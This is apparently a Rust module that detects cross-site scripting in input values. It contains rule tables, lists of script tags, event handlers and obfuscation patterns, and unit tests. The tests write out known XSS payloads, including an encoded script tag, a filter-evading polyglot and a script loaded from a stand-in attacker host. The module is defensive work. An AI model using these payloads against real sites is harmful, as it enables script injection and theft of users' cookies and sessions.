//! Cross-site scripting detection: what in a value a browser would run if a page echoed it
//! back — a tag that loads or runs script, an event-handler attribute (in a tag, or injected
//! into one the page opened), a `javascript:` URL, a style expression, a script call that
//! breaks out of a string. Ordinary text with `<` and `>` ("<3", "price < 0.30 €") is not
//! markup that runs, and passes at the default level.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::{Family, Finding};

/// The rules, with the least sensitivity at which each applies.
pub(super) const RULES: &[(u32, u8, &str)] = &[
    (
        102_100,
        1,
        "a tag that loads or runs script (script, iframe, object, embed, …)",
    ),
    (102_110, 1, "an event-handler attribute"),
    (
        102_120,
        1,
        "a URL that runs script (javascript:, vbscript:, data:text/html)",
    ),
    (
        102_130,
        1,
        "a style that runs script (expression(), -moz-binding, behavior)",
    ),
    (
        102_140,
        1,
        "a script call breaking out of a string or an attribute",
    ),
    (
        102_190,
        1,
        "a script object or global reached in a disguise (document.cookie, self['alert'])",
    ),
    (
        102_200,
        1,
        "script obfuscation (JSFuck, UTF-7 markup, calls through template literals)",
    ),
    (102_150, 2, "any event-handler-like attribute"),
    (102_160, 2, "a script call or a script object anywhere"),
    (102_170, 2, "a client-side template expression"),
    (102_180, 3, "any HTML tag"),
];

const SCRIPT_TAGS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link",
    "style", "import", "isindex", "xml", "bgsound", "layer", "ilayer", "vmlframe", "xss", "portal",
    "noembed", "template", "svg", "math", "form",
];

/// Handlers browsers know, for the default level, where `on…=` must be one of them.
const HANDLERS: &[&str] = &[
    "abort",
    "activate",
    "afterprint",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforeactivate",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforepaste",
    "beforeprint",
    "beforeunload",
    "begin",
    "blur",
    "bounce",
    "canplay",
    "canplaythrough",
    "change",
    "click",
    "close",
    "contextmenu",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "deactivate",
    "drag",
    "dragend",
    "dragenter",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "durationchange",
    "end",
    "ended",
    "error",
    "finish",
    "focus",
    "focusin",
    "focusout",
    "fullscreenchange",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadeddata",
    "loadedmetadata",
    "loadend",
    "loadstart",
    "message",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "offline",
    "online",
    "pagehide",
    "pageshow",
    "paste",
    "pause",
    "play",
    "playing",
    "pointercancel",
    "pointerdown",
    "pointerenter",
    "pointerleave",
    "pointermove",
    "pointerout",
    "pointerover",
    "pointerrawupdate",
    "pointerup",
    "popstate",
    "progress",
    "ratechange",
    "readystatechange",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "search",
    "seeked",
    "seeking",
    "select",
    "selectionchange",
    "selectstart",
    "show",
    "start",
    "stalled",
    "storage",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchend",
    "touchmove",
    "touchstart",
    "transitioncancel",
    "transitionend",
    "transitionrun",
    "transitionstart",
    "unload",
    "volumechange",
    "waiting",
    "wheel",
    "zoom",
    "filterchange",
    "formdata",
    "securitypolicyviolation",
    "slotchange",
    "webkitanimationend",
    "webkitanimationstart",
    "webkittransitionend",
    "contentvisibilityautostatechange",
];

const SCRIPT_CALLS: &[&str] = &[
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "function",
    "atob",
    "import",
    "fetch",
    "print",
    "execscript",
    "write",
    "writeln",
    "open",
    "showmodaldialog",
];

const SCRIPT_OBJECTS: &[&str] = &[
    "document.cookie",
    "document.domain",
    "document.write",
    "document.location",
    "window.location",
    "location.href",
    "location.hash",
    "fromcharcode",
    ".innerhtml",
    ".outerhtml",
    "window.name",
    "top.location",
    "self.location",
    "constructor.constructor",
    "xmlhttprequest",
    "localstorage.",
    "sessionstorage.",
];

/// The first rule (at `level` or below) that the value, already normalised, matches.
pub fn detect(value: &str, level: u8) -> Option<Finding> {
    // Every rule needs one of these: markup, an attribute, a call, a scheme, a template.
    if !value.bytes().any(|b| {
        matches!(
            b,
            b'<' | b'=' | b'(' | b'`' | b':' | b'[' | b'{' | b'+' | b'.'
        )
    }) {
        return None;
    }
    let rule = if level >= 1 {
        default_rules(value)
    } else {
        None
    }
    .or_else(|| (level >= 2).then(|| sensitive_rules(value)).flatten())
    .or_else(|| (level >= 3 && any_tag(value)).then_some(102_180))?;
    Some(Finding {
        family: Family::Xss,
        rule,
    })
}

fn default_rules(value: &str) -> Option<u32> {
    let has_markup = value.contains('<');
    if has_markup && tags(value).any(|name| SCRIPT_TAGS.contains(&name)) {
        return Some(102_100);
    }
    // An attribute is set with `=`; every call opens with `(` or a template literal's `.
    let assigns = value.contains('=');
    let calls = value.contains(['(', '`']);
    if assigns && handler_attributes(value).any(|name| HANDLERS.contains(&name)) {
        return Some(102_110);
    }
    let compact = without_whitespace(value);
    let found = Needles::in_text(&compact);
    if found.scheme {
        return Some(102_120);
    }
    if found.style && (has_markup || compact.contains("style")) {
        return Some(102_130);
    }
    if calls && (breaking_script_call(&compact) || direct_script_call(value)) {
        return Some(102_140);
    }
    if found.global_root && GLOBALS.is_match(&script_compact(&compact)) {
        return Some(102_190);
    }
    if found.obfuscation {
        return Some(102_200);
    }
    None
}

/// The needles the default rules look for in the compacted value, found in one pass.
#[derive(Debug, Default)]
struct Needles {
    /// A URL scheme that runs script.
    scheme: bool,
    /// A style construct that runs script (counts only near markup or a style).
    style: bool,
    /// Obfuscation only script uses.
    obfuscation: bool,
    /// What one of `SCRIPT_GLOBALS` starts with or contains (`GLOBAL_ROOTS`).
    global_root: bool,
}

const SCHEMES: &[&str] = &[
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:image/svg",
    "data:application/xhtml",
];
const STYLES: &[&str] = &["expression(", "behavior:url", "behaviour:url", "@import"];
const OBFUSCATIONS: &[&str] = &[
    "![]",
    "+[]",
    "[][",
    "+adw-",
    ".call`",
    ".apply`",
    ".bind`",
    "${alert",
    "${eval",
    "url(javascript",
    "url(vbscript",
    "-moz-binding",
];

/// What every one of `SCRIPT_GLOBALS` starts with or contains, found in the value before the
/// work of compacting it for them.
const GLOBAL_ROOTS: &[&str] = &[
    "document",
    "window",
    "self",
    "top",
    "parent",
    "frames",
    "globalthis",
    "function",
    "location",
    "fromcharcode",
    "innerhtml",
    "outerhtml",
];

/// One automaton over every needle and root, so that the compacted value is read once; a
/// pattern's index says which list it came from.
static NEEDLES: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let patterns = SCHEMES
        .iter()
        .chain(STYLES)
        .chain(OBFUSCATIONS)
        .chain(GLOBAL_ROOTS);
    AhoCorasick::new(patterns).expect("the needles are a few short constant strings")
});
static OBJECTS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new(SCRIPT_OBJECTS).expect("the objects are a few short constant strings")
});
static GLOBALS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new(SCRIPT_GLOBALS).expect("the globals are a few short constant strings")
});

impl Needles {
    fn in_text(compact: &str) -> Needles {
        let mut found = Needles::default();
        for hit in NEEDLES.find_overlapping_iter(compact) {
            let index = hit.pattern().as_usize();
            if index < SCHEMES.len() {
                found.scheme = true;
            } else if index < SCHEMES.len() + STYLES.len() {
                found.style = true;
            } else if index < SCHEMES.len() + STYLES.len() + OBFUSCATIONS.len() {
                found.obfuscation = true;
            } else {
                found.global_root = true;
            }
        }
        found
    }
}

/// Script objects and calls as `script_compact` spells them: `document.cookie`,
/// `(document)['cookie']` and `document/**/.cookie` all read `documentcookie`.
const SCRIPT_GLOBALS: &[&str] = &[
    "documentcookie",
    "documentdomain",
    "documentwrite",
    "documentlocation",
    "windowlocation",
    "documentbodyappendchild",
    "documentcreateelement",
    "documentqueryselector",
    "windowalert",
    "selfalert",
    "topalert",
    "parentalert",
    "framesalert",
    "windowdocument",
    "selfdocument",
    "topdocument",
    "windoweval",
    "selfeval",
    "topeval",
    "globalthis",
    "newfunction",
    "locationhref",
    "locationhash",
    "locationreplace",
    "windowopen",
    "stringfromcharcode",
    "innerhtml",
    "outerhtml",
];

/// The value without what JavaScript lets stand between the parts of a member access:
/// comments, quotes, brackets, parentheses and dots.
fn script_compact(compact: &str) -> String {
    let mut out = String::with_capacity(compact.len());
    let mut rest = compact;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        rest = rest[start + 2..]
            .split_once("*/")
            .map_or("", |(_, after)| after);
    }
    out.push_str(rest);
    out.retain(|c| !matches!(c, '"' | '\'' | '`' | '[' | ']' | '(' | ')' | '.'));
    out
}

/// `alert(1)`, `eval('…')`, `setInterval(code, 1)`: the calls that only script makes,
/// written as script writes them (no space before the parenthesis).
fn direct_script_call(value: &str) -> bool {
    DIRECT_CALLS
        .find_overlapping_iter(value)
        .any(|hit| hit.start() == 0 || !value.as_bytes()[hit.start() - 1].is_ascii_alphanumeric())
}

static DIRECT_CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let calls = [
        "alert(",
        "alert`",
        "prompt(",
        "eval(",
        "settimeout(",
        "setinterval(",
        "atob(",
        "btoa(",
        "execscript(",
        "new function(",
    ];
    AhoCorasick::new(calls).expect("the calls are a few short constant strings")
});

fn sensitive_rules(value: &str) -> Option<u32> {
    if value.contains('=') && handler_attributes(value).next().is_some() {
        return Some(102_150);
    }
    let compact = without_whitespace(value);
    if script_call_anywhere(&compact) || OBJECTS.is_match(compact.as_ref()) {
        return Some(102_160);
    }
    if let Some(open) = compact.find("{{")
        && compact[open..].contains("}}")
        && compact[open..].contains('(')
    {
        return Some(102_170);
    }
    None
}

/// The value without whitespace (which browsers skip inside schemes and between tokens);
/// borrowed when it has none.
fn without_whitespace(value: &str) -> std::borrow::Cow<'_, str> {
    let Some(first) = value.find(char::is_whitespace) else {
        return std::borrow::Cow::Borrowed(value);
    };
    let mut compact = String::with_capacity(value.len());
    compact.push_str(&value[..first]);
    for piece in value[first..].split(char::is_whitespace) {
        compact.push_str(piece);
    }
    std::borrow::Cow::Owned(compact)
}

/// The lower-case names of the tags that `<` opens in the value: `<script`, `</script`,
/// `<svg/onload`; `< 3` and `<3` are not tags.
fn tags(value: &str) -> impl Iterator<Item = &str> {
    value.match_indices('<').filter_map(move |(at, _)| {
        let rest = &value[at + 1..];
        let rest = rest.strip_prefix(['/', '?']).unwrap_or(rest);
        let len = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'-' || *b == b':')
            .count();
        // `<x:script xmlns:x=…>` is a script element of the XHTML namespace.
        let name = rest[..len].rsplit(':').next().unwrap_or("");
        let ends = rest[len..]
            .bytes()
            .next()
            .is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'/' | b'>' | 0x0c));
        (name.bytes().next().is_some_and(|b| b.is_ascii_alphabetic()) && ends).then_some(name)
    })
}

fn any_tag(value: &str) -> bool {
    tags(value).next().is_some()
}

/// The names after `on` of `on…=` attributes: preceded by what can end the previous
/// attribute (space, quote, slash, …), followed by `=` (spaces allowed), not `==`.
fn handler_attributes(value: &str) -> impl Iterator<Item = &str> {
    let bytes = value.as_bytes();
    let starts = bytes
        .windows(2)
        .enumerate()
        .filter(|(_, pair)| pair == b"on")
        .map(|(at, _)| at);
    starts.filter_map(move |at| {
        let before = at.checked_sub(1).map(|i| bytes[i]);
        let delimited = before.is_none_or(|b| {
            b.is_ascii_whitespace()
                || matches!(b, b'"' | b'\'' | b'`' | b'/' | b';' | b',' | b'(' | b'+')
        });
        if !delimited {
            return None;
        }
        let name_start = at + 2;
        let len = bytes[name_start..]
            .iter()
            .take_while(|b| b.is_ascii_alphabetic())
            .count();
        if !(3..=40).contains(&len) {
            return None;
        }
        let after = &bytes[name_start + len..];
        let spaces = after.iter().take_while(|b| b.is_ascii_whitespace()).count();
        let assigned = after.get(spaces) == Some(&b'=') && after.get(spaces + 1) != Some(&b'=');
        assigned.then(|| &value[name_start..name_start + len])
    })
}

/// `'-alert(1)-'`, `";alert(1)//`, `</title><x onfocus…` without the tag, `javascript`-free:
/// a known script function called right after what ends a string or a statement.
fn breaking_script_call(compact: &str) -> bool {
    calls(compact).any(|(name, before)| {
        SCRIPT_CALLS.contains(&name)
            && before.is_some_and(|b| {
                matches!(
                    b,
                    b'\''
                        | b'"'
                        | b'`'
                        | b';'
                        | b'-'
                        | b'+'
                        | b'*'
                        | b'|'
                        | b'&'
                        | b'}'
                        | b')'
                        | b'>'
                        | b'='
                        | b'{'
                )
            })
    })
}

fn script_call_anywhere(compact: &str) -> bool {
    calls(compact).any(|(name, _)| {
        SCRIPT_CALLS.contains(&name) && name != "print" && name != "open" && name != "write"
    })
}

/// Every `name(` in the compacted value, with the byte before the name.
fn calls(compact: &str) -> impl Iterator<Item = (&str, Option<u8>)> {
    let bytes = compact.as_bytes();
    compact
        .match_indices(['(', '`'])
        .filter_map(move |(at, _)| {
            let start = bytes[..at]
                .iter()
                .rposition(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'$'))
                .map_or(0, |p| p + 1);
            let name = &compact[start..at];
            let before = start.checked_sub(1).map(|i| bytes[i]);
            // `window.alert(`, `top['alert'](`: the object in front does not hide the call.
            let before = match before {
                Some(b'.') | Some(b'[') => Some(b';'),
                other => other,
            };
            (!name.is_empty()).then_some((name, before))
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::decode::normalize;

    fn rule(value: &str, level: u8) -> Option<u32> {
        detect(&normalize(value), level).map(|finding| finding.rule)
    }

    #[test]
    fn script_in_its_usual_disguises_is_caught_at_the_default_level() {
        for attack in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></script>",
            "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert('xss')>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
            "<div style=\"width: expression(alert(1))\">",
            "';alert(String.fromCharCode(88,83,83))//",
            "\"-alert(1)-\"",
            "<details open ontoggle=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        ] {
            assert!(rule(attack, 1).is_some(), "missed at level 1: {attack}");
        }
    }

    #[test]
    fn text_with_angle_brackets_and_on_words_is_not_markup() {
        for benign in [
            "I <3 this charger",
            "price < 0.30 €/kWh and > 0.10",
            "see <attached> screenshot",
            "status: online = yes",
            "the app (open it) shows 'error 42'",
            "charging went on=off=on all night",
            "Please confirm (by e-mail) the refund",
            "a -> b, c <- d",
            "if x<y then",
            "https://example.com/path?a=1&b=2",
        ] {
            assert_eq!(rule(benign, 1), None, "flagged at level 1: {benign}");
        }
    }

    #[test]
    fn higher_levels_catch_more() {
        assert_eq!(rule("<b>bold</b>", 2), None);
        assert_eq!(rule("<b>bold</b>", 3), Some(102_180));
        assert_eq!(rule("x onanything=1", 1), None);
        assert_eq!(rule("x onanything=1", 2), Some(102_150));
        assert_eq!(rule("alert(1)", 1), Some(102_140));
        assert_eq!(rule("confirm(1)", 1), None);
        assert_eq!(rule("confirm(1)", 2), Some(102_160));
        assert_eq!(rule("{{7*7}}", 2), None);
        assert_eq!(rule("{{constructor.constructor(1)()}}", 2), Some(102_160));
    }
}
